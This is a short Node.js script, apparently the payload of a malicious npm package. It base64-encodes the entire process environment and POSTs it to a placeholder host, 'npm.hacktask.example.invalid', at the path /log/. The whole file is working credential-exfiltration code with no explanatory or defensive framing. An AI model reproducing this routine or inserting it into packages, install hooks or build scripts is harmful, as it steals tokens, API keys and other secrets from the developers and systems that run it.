const http = require("http");
const querystring = require("querystring");

const host = "npm.hacktask.example.invalid";
const env = JSON.stringify(process.env);
const data = new Buffer(env).toString("base64");
const postData = querystring.stringify({ data: data });
const req = http.request({ host: host, port: 80, path: "/log/", method: "POST", headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": Buffer.byteLength(postData) } });
req.write(postData);
req.end();
